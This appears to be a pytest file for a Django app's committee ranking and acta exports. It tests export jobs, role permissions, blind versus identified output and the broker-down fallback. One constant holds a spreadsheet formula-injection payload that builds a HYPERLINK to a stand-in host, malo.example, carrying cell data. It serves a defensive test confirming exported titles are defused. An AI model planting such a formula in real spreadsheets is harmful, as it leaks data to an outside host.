"""The committee's ranking and acta (evaluacion/exports.py): background exports (core.exports) with
their bytes, permissions and outbox; applicant titles written as text, never as formulas."""

import csv
import io
from unittest import mock

import pytest
from django.urls import reverse
from freezegun import freeze_time
from kombu.exceptions import OperationalError
from openpyxl import load_workbook

from core.models import ExportJob, ExportStatus, PendingTask
from core.tasks import run_export
from evaluacion import exports
from tests.factories.concurso import CallFactory


def _url(call, name):
    return reverse("evaluacion:export", kwargs={"slug": call.slug, "name": name})


def _request(client, capture, call, name):
    with capture(execute=True):
        response = client.post(_url(call, name))
    assert response.status_code == 302
    return ExportJob.objects.latest("created_at")


def _read(job) -> bytes:
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        return handle.read()


@pytest.mark.parametrize("name", ["ranking.csv", "acta.pdf"])
def test_the_job_produces_the_builders_bytes(client, competition, django_capture_on_commit_callbacks, name):
    c = competition
    client.force_login(c.committee)
    with freeze_time("2026-09-01 15:00:00"):  # the acta carries its issue date
        job = _request(client, django_capture_on_commit_callbacks, c.call, name)
        expected = {"ranking.csv": exports.ranking_csv, "acta.pdf": exports.acta_pdf}[name](
            c.call, identified=False
        )

    assert job.kind == exports.KINDS[name].name
    assert job.params == {"call_id": c.call.pk, "identified": False}
    assert (job.status, job.requested_by) == (ExportStatus.READY, c.committee)
    assert _read(job) == expected
    assert job.filename == f"{name.split('.')[0]}-{c.call.slug}.{name.split('.')[1]}"


def test_the_xlsx_job_holds_the_same_table(client, competition, django_capture_on_commit_callbacks):
    c = competition
    client.force_login(c.staff)
    job = _request(client, django_capture_on_commit_callbacks, c.call, "ranking.xlsx")

    sheet = load_workbook(io.BytesIO(_read(job))).active
    header, rows = exports.ranking_table(c.call, identified=True)
    assert [cell.value for cell in sheet[1]] == header
    assert sheet.max_row == len(rows) + 1
    assert job.params["identified"] is True
    assert job.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_with_eager_tasks_the_request_goes_straight_to_the_file(client, competition):
    """Outside a test transaction on_commit runs at once: the embedded default gives the file at once."""
    client.force_login(competition.committee)
    with mock.patch("core.taskutils.transaction.on_commit", side_effect=lambda func, **kwargs: func()):
        response = client.post(_url(competition.call, "ranking.csv"))

    job = ExportJob.objects.get()
    assert response["Location"] == reverse("portal:export_download", args=[job.pk])
    download = client.get(response["Location"])
    assert download.status_code == 200 and download["Cache-Control"] == "private, no-store"
    assert b"".join(download.streaming_content) == exports.ranking_csv(competition.call, identified=False)


@pytest.mark.parametrize("role", ["assigned", "unassigned", "applicant"])
def test_evaluators_and_applicants_cannot_request_exports(client, competition, role):
    client.force_login(getattr(competition, role))

    assert client.post(_url(competition.call, "ranking.csv")).status_code == 403
    assert ExportJob.objects.count() == 0


def test_unknown_call_or_export_is_not_found(client, competition):
    client.force_login(competition.staff)
    assert (
        client.post(
            reverse("evaluacion:export", kwargs={"slug": "no-existe", "name": "ranking.csv"})
        ).status_code
        == 404
    )
    assert client.post(_url(competition.call, "ranking.json")).status_code == 404
    assert client.get(_url(competition.call, "ranking.csv")).status_code == 405
    assert not exports.can_export(competition.staff, {"call_id": 999_999, "identified": False})


def test_identified_files_reach_the_committee_only_for_a_call_that_shows_identities(
    client, competition, django_capture_on_commit_callbacks
):
    c = competition
    open_call = CallFactory(committee_sees_identities=True)
    client.force_login(c.staff)
    hidden_job = _request(client, django_capture_on_commit_callbacks, c.call, "ranking.csv")
    open_job = _request(client, django_capture_on_commit_callbacks, open_call, "ranking.csv")
    assert hidden_job.params["identified"] and open_job.params["identified"]

    client.force_login(c.committee)
    assert client.get(reverse("portal:export_download", args=[hidden_job.pk])).status_code == 403
    response = client.get(reverse("portal:export_download", args=[open_job.pk]))
    assert response.status_code == 200
    b"".join(response.streaming_content)
    # The committee's own request for the open call is identified, for the other one it is blind.
    assert (
        _request(client, django_capture_on_commit_callbacks, open_call, "ranking.csv").params["identified"]
        is True
    )
    assert (
        _request(client, django_capture_on_commit_callbacks, c.call, "ranking.csv").params["identified"]
        is False
    )


def test_download_is_refused_to_evaluators_and_applicants(
    client, competition, django_capture_on_commit_callbacks
):
    c = competition
    client.force_login(c.committee)
    job = _request(client, django_capture_on_commit_callbacks, c.call, "acta.pdf")
    for user in (c.assigned, c.unassigned, c.conflicted, c.applicant):
        client.force_login(user)
        assert client.get(reverse("portal:export_download", args=[job.pk])).status_code == 403


def test_broker_down_records_the_job_as_pending(client, competition):
    client.force_login(competition.committee)
    with (
        mock.patch("core.taskutils.transaction.on_commit", side_effect=lambda func, **kwargs: func()),
        mock.patch.object(run_export, "apply_async", side_effect=OperationalError("Connection refused")),
    ):
        response = client.post(_url(competition.call, "acta.pdf"), follow=True)

    job = ExportJob.objects.get()
    assert job.status == ExportStatus.PENDING
    pending = PendingTask.objects.get()
    assert (pending.task_name, pending.args) == ("core.tasks.run_export", [str(job.pk)])
    assert response.redirect_chain == [(reverse("portal:export_list"), 302)]
    html = response.content.decode()
    assert "pendiente" in html and "Acta del comité (PDF)" in html and "Estamos preparando su archivo" in html


FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")'


@pytest.mark.parametrize("identified", [True, False])
def test_ranking_exports_defuse_formula_titles(competition, identified):
    c = competition
    c.other.title = FORMULA
    c.other.save(update_fields=["title"])

    rows = list(
        csv.reader(io.StringIO(exports.ranking_csv(c.call, identified=identified).decode("utf-8-sig")))
    )
    sheet = load_workbook(io.BytesIO(exports.ranking_xlsx(c.call, identified=identified))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]

    for value in [value for row in rows[1:] for value in row] + [cell.value for cell in cells]:
        if isinstance(value, str) and value:
            assert not value.lstrip().startswith(("=", "+", "@")), value
    assert all(cell.data_type != "f" for cell in cells)
    if identified:
        assert any(value == "'" + FORMULA for row in rows for value in row)
